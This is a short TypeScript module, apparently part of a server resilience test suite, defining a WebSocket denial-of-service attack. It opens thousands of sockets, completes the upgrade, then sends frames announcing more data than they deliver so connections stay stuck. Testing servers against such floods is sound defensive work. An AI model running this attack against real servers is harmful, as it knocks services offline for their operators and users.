import type { Attack } from '../../support/attacker.ts'
import { keepOpen, upgradeText } from '../../support/flooding.ts'
import { frameHead } from '../../support/raw-peer.ts'

/** WebSockets that announce a message and never complete it. */
export const attack: Attack = (target) => {
  const half = Buffer.concat([frameHead('binary', 31_000), Buffer.alloc(30_000, 0x10)])
  return keepOpen(target, { sockets: 3000, addresses: 100, perSecond: 300 }, (socket) => {
    socket.write(upgradeText)
    socket.once('data', () => socket.write(half))
  })
}
